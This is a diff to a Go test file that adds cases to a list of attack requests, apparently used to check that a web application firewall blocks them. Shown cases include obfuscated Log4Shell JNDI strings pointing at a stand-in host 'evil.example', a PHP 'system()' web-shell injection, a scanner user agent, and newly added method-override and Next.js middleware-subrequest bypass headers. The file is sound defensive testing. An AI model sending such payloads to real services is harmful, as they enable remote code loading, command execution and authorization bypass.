@@ -109,6 +109,17 @@ func attacks(t testing.TB) []struct {
 		{"log4shell obfuscated in json", jsonReq("POST", "/v1/jobs", `{"dataset":"${${lower:j}ndi:${lower:l}dap://evil.example/x}"}`)},
 		{"log4shell in query", req("GET", "/v1/jobs?cursor="+q("${jndi:rmi://evil.example:1099/obj}"), "", nil)},
 		{"php injection", req("GET", "/v1/jobs?cursor="+q("<?php system($_GET['c']); ?>"), "", nil)},
+		// CRS's restricted headers (920450, rewritten in restrictedHeaders).
+		{"method override header", func() *http.Request {
+			r := req("POST", "/v1/keys/key_1", "", nil)
+			r.Header.Set("X-HTTP-Method-Override", "DELETE")
+			return r
+		}()},
+		{"middleware subrequest header", func() *http.Request {
+			r := req("GET", "/v1/jobs", "", nil)
+			r.Header.Set("x-middleware-subrequest", "middleware:middleware:middleware")
+			return r
+		}()},
 		{"scanner user agent", func() *http.Request {
 			r := req("GET", "/v1/jobs", "", nil)
 			r.Header.Set("User-Agent", "sqlmap/1.7.2#stable (https://sqlmap.org)")
